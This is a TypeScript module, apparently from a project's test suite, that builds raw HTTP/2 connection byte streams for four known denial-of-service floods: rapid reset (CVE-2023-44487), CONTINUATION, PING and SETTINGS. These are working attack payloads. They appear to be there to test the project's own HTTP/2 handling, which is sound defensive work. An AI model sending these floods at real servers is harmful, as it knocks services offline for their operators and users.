/** Floods in HTTP/2, each as the octets of one connection: cheap to send, and meant to be dear to receive. */
import { PREFACE } from "../../src/wire/http2/frames.ts";
import { frame } from "./attacks.ts";

/** GET http://orders.shop/ from the static table (RFC 7541 appendix A). */
const REQUEST = Buffer.concat([
  Buffer.from([0x82, 0x86, 0x84, 0x01, 11]),
  Buffer.from("orders.shop"),
]);
const [HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [1, 3, 4, 6, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);

function connection(
  count: number,
  each: (index: number) => Buffer,
  first: Buffer = Buffer.alloc(0),
): Buffer {
  return Buffer.concat([
    PREFACE,
    frame(SETTINGS, 0, 0),
    first,
    ...Array.from({ length: count }, (_, index) => each(index)),
  ]);
}

/** By name; each makes what one connection sends. */
export const FLOODS: Readonly<Record<string, () => Buffer>> = {
  /** CVE-2023-44487 */
  "rapid-reset": () =>
    connection(10_000, (index) =>
      Buffer.concat([
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * index + 1, REQUEST),
        frame(RST_STREAM, 0, 2 * index + 1, CANCEL),
      ]),
    ),
  /** CVE-2024-27316 */
  continuation: () =>
    connection(
      50_000,
      () => frame(CONTINUATION, 0, 1, Buffer.alloc(16, 0x40)),
      frame(HEADERS, END_STREAM, 1, REQUEST),
    ),
  /** CVE-2019-9512 */
  ping: () => connection(50_000, () => frame(PING, 0, 0, Buffer.alloc(8))),
  /** CVE-2019-9515 */
  settings: () => connection(50_000, () => frame(SETTINGS, 0, 0)),
};
